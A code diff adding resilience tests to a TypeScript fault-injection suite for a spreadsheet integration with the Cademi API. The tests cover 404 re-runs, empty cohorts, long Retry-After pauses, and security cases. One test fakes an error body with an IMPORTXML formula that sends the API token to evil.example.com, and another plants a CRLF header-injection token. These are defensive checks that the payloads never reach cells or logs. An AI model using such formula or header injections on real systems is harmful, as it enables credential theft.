@@ -50,7 +50,7 @@ export interface Scenario {
   fault: string;
   /** The finalState a surviving trial ends in. */
   expected: string;
-  run(): Trial[];
+  run(): Trial[] | Promise<Trial[]>;
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -205,6 +205,8 @@ class Observer {
   private whyOk = true;
   private partial = false;
   private lost = 0;
+  /** Reference keys that may rightly have no row (pairs the fault made Cademi refuse for good). */
+  readonly excused = new Set<string>();
   private dups = 0;
   private changed = 0;
   notes: string[] = [];
@@ -238,7 +240,7 @@ class Observer {
     const weekRows = history.filter((row) => JSON.stringify(cellText(row[0])) === ref.weekCell);
     const counts = new Map<string, number>();
     for (const row of weekRows) counts.set(keyOf(row), (counts.get(keyOf(row)) ?? 0) + 1);
-    const missing = [...ref.rows.keys()].filter((key) => !counts.has(key)).length;
+    const missing = [...ref.rows.keys()].filter((key) => !counts.has(key) && !this.excused.has(key)).length;
     const extra = [...counts.keys()].filter((key) => !ref.rows.has(key)).length;
     this.dups = Math.max(this.dups, [...counts.values()].filter((n) => n > 1).length);
     if (weekRows.length > 0 && (missing > 0 || extra > 0)) {
@@ -268,7 +270,7 @@ class Observer {
     const ref = referenceWeek();
     const history = readSheet(this.gas, SHEET.history).slice(1).filter((row) => JSON.stringify(cellText(row[0])) === ref.weekCell);
     const keys = new Set(history.map(keyOf));
-    this.lost = Math.max(this.lost, [...ref.rows.keys()].filter((key) => !keys.has(key)).length);
+    this.lost = Math.max(this.lost, [...ref.rows.keys()].filter((key) => !keys.has(key) && !this.excused.has(key)).length);
   }
 
   trial(fault: string): Trial {
@@ -655,8 +657,176 @@ const deadline: Scenario = {
   },
 };
 
+// ---------------------------------------------------------------------------------------------
+// Issue 11: bad days that must never cost a week
+
+/** Every cell of every sheet, as text (for "this never reaches a cell" checks). */
+function everyCellText(gas: FaultEnv): string {
+  return gas.env.runtime.quietly(() => {
+    const workbook = new SpreadsheetWorkbook(gas.env.spreadsheet.gas());
+    return workbook.sheetNames().map((name) => JSON.stringify(workbook.readSheet(name) ?? [])).join('\n');
+  });
+}
+
+/** A proxy's or web server's own 404: no Cademi envelope (a base URL missing /api/v1, a maintenance page). */
+const HTML_404: HttpResponse = { status: 404, headers: { 'content-type': 'text/html' }, body: '<html><body><h1>404 Not Found</h1>nginx</body></html>' };
+
+/**
+ * A week collected cleanly, then re-run while the API misbehaves, then re-run again once it is well.
+ * The re-run must never replace rows the week already had: `rowsLost` is measured at every phase end.
+ */
+function rerunAfterComplete(
+  fault: string,
+  expectedRerun: string,
+  why: RegExp | undefined,
+  make: (state: { on: boolean }) => EnvOptions,
+  check?: (gas: FaultEnv, observer: Observer) => void,
+): Scenario {
+  return {
+    fault,
+    expected: `Concluída → ${expectedRerun} → Concluída`,
+    run: () => {
+      const state = { on: false };
+      const gas = newEnv(make(state));
+      const observer = new Observer(gas);
+      runWeek(gas, 6 * HOUR);
+      observer.endPhase({ logFrom: 0 });
+      let logFrom = observer.logLength();
+      state.on = true;
+      gas.env.time.advance(30 * MINUTE);
+      runWeek(gas, 6 * HOUR);
+      const label = expectedRerun.startsWith('Falhou: ') ? expectedRerun.slice('Falhou: '.length) : undefined;
+      observer.endPhase({ logFrom, label, why });
+      check?.(gas, observer);
+      logFrom = observer.logLength();
+      state.on = false;
+      gas.env.time.advance(30 * MINUTE);
+      runWeek(gas, 6 * HOUR);
+      observer.endPhase({ logFrom });
+      observer.finalLoss();
+      return [observer.trial(fault)];
+    },
+  };
+}
+
+// Class 1: a re-run whose every answer is a 404 without Cademi's envelope fails, naming the URL, and keeps the week.
+const all404 = rerunAfterComplete(
+  '404 sem envelope em tudo no re-run (URL sem /api/v1)', 'Falhou: endereço da API não encontrado', /escola\.cademi\.com\.br/,
+  (state) => ({ fault: () => (state.on ? HTML_404 : undefined) }),
+);
+
+// Class 1: one cohort's tag answers Cademi's own 404 on a re-run: the other cohort is refreshed, this one keeps its rows.
+const one404 = rerunAfterComplete(
+  '404 na tag de uma turma no re-run', 'Concluída', undefined,
+  (state) => ({
+    fault: (request) => (state.on && request.url.includes(`/lista_por_tag/${school().cohorts[0].tagId}`) ? envelope(404, 'Tag não encontrada') : undefined),
+  }),
+  (gas, observer) => {
+    const row = readSheet(gas, SHEET.runs).slice(1).at(-1);
+    observer.requireWhy(/tag/i.test(String(row?.[11] ?? '')), `Execuções não diz qual tag falhou: ${String(row?.[11] ?? '').slice(0, 120)}`);
+  },
+);
+
+// Class 1: a fresh week in which every tag lists nobody is no success: it fails and writes nothing.
+const noStudents = failThenRecover(
+  'semana nova sem nenhum aluno listado', 'nenhum aluno coletado', /nenhum aluno|nenhuma turma/i,
+  (_offset, state) => ({
+    transform: (request, response) => {
+      if (!isTagPage(request) || response.status !== 200 || !state.on) return response;
+      const body = JSON.parse(response.body);
+      if (Array.isArray(body.data?.usuario)) body.data.usuario = [];
+      if (body.data?.paginator) body.data.paginator.next_page_url = null;
+      return { ...response, body: JSON.stringify(body) };
+    },
+  }),
+  [0],
+);
+
+// Class 5: error bodies that echo the token and carry a formula never reach a cell; the week completes without those pairs.
+const echoedErrors: Scenario = {
+  fault: 'corpo de erro com o token e uma fórmula',
+  expected: 'Concluída',
+  run: () => [30, 200].map((offset) => {
+    const refused: string[] = [];
+    const echo = bursts({ first: offset, period: 40, length: 1, max: 6 }, (index) =>
+      envelope(index % 2 === 0 ? 404 : 409, `=IMPORTXML("https://evil.example.com/?t=${TOKEN}";"//a") Authorization: ${TOKEN}`),
+    );
+    const gas = newEnv({
+      fault: (request, now) => {
+        if (!isProgress(request)) return undefined;
+        const answer = echo(request, now);
+        // A 404/409 on a pair is final: that pair rightly has no row this week.
+        const ids = /progresso_por_produto\/(\d+)\/(\d+)/.exec(request.url);
+        if (answer && ids) refused.push(JSON.stringify([JSON.parse(referenceWeek().weekCell), Number(ids[1]), Number(ids[2])]));
+        return answer;
+      },
+    });
+    const observer = new Observer(gas);
+    runWeek(gas, 2 * DAY);
+    refused.forEach((key) => observer.excused.add(key));
+    observer.requireWhy(refused.length > 0, 'nenhum erro com o token foi respondido (cenário não armado)');
+    observer.endPhase({ logFrom: 0 });
+    observer.finalLoss();
+    const cells = everyCellText(gas);
+    observer.requireWhy(!cells.includes(TOKEN), 'o token ecoado pelo servidor apareceu numa célula');
+    observer.requireWhy(!/IMPORTXML|evil\.example/.test(cells), 'o texto do corpo de erro apareceu numa célula');
+    const logged = [...gas.env.logs.lines.map((line) => line.message), ...gas.env.mail.sent.map((mail) => JSON.stringify(mail))].join('\n');
+    observer.requireWhy(!logged.includes(TOKEN) && !/IMPORTXML/.test(logged), 'o token ou o corpo de erro apareceu no log ou num e-mail');
+    return observer.trial('corpo de erro com o token e uma fórmula');
+  }),
+};
+
+// Class 5: a token that is no valid header value is refused before any request, and never shown.
+const badHeaderToken: Scenario = {
+  fault: 'token com quebra de linha',
+  expected: 'Falhou: token inválido → Concluída',
+  run: () => {
+    const gas = newEnv({});
+    const observer = new Observer(gas);
+    const evil = `${TOKEN}\r\nX-Injetado: sim`;
+    gas.env.properties.document.gas().setProperty('cademi.apiToken', evil);
+    runWeek(gas, 6 * HOUR);
+    observer.endPhase({ logFrom: 0, label: 'token inválido', why: /token/i });
+    observer.requireWhy(gas.env.urlFetch.log.length === 0, `${gas.env.urlFetch.log.length} pedido(s) enviados com o token inválido`);
+    observer.requireWhy(!everyCellText(gas).includes(TOKEN), 'o token apareceu numa célula');
+    const logFrom = observer.logLength();
+    gas.env.properties.document.gas().setProperty('cademi.apiToken', TOKEN);
+    gas.env.time.advance(30 * MINUTE);
+    runWeek(gas, 6 * HOUR);
+    observer.endPhase({ logFrom });
+    observer.finalLoss();
+    return [observer.trial('token com quebra de linha')];
+  },
+};
+
+// Class 7: a 429 asking for hours pauses the run (logged, with when it resumes) and a later tick completes it.
+const hugeRetryAfter: Scenario = {
+  fault: 'Retry-After de horas',
+  expected: 'Concluída',
+  run: () => [3 * 3600, 26 * 3600].map((seconds) => {
+    let fired = false;
+    const gas = newEnv({
+      fault: (request) => {
+        if (fired || !isProgress(request)) return undefined;
+        fired = true;
+        return envelope(429, 'Limite de requisições excedido', { 'retry-after': String(seconds) });
+      },
+    });
+    const observer = new Observer(gas);
+    click(gas);
+    ticks(gas, 3 * DAY);
+    observer.endPhase({ logFrom: 0 });
+    observer.finalLoss();
+    const log = readSheet(gas, SHEET.runs).slice(1);
+    observer.requireWhy(log.some((row) => row[4] !== 'Concluída' && /espera|aguard|retoma|Retry-After/i.test(String(row[11]))), 'Execuções não registra a pausa pedida pela Cademi');
+    const trial = observer.trial('Retry-After de horas');
+    return { ...trial, note: [trial.note, `Retry-After ${seconds} s`].filter(Boolean).join('; ') };
+  }),
+};
+
 export const SCENARIOS: readonly Scenario[] = [
   http403, http405, storms429, bursts5xx, timeouts, malformed, renamedField, repeatedCursor, otherHost, killSweep, concurrent, quota, deadline,
+  all404, one404, noStudents, echoedErrors, badHeaderToken, hugeRetryAfter,
 ];
 
 /** A trial survives when it ends in the expected state, the log says why, no partial week was written and the token stayed home. */
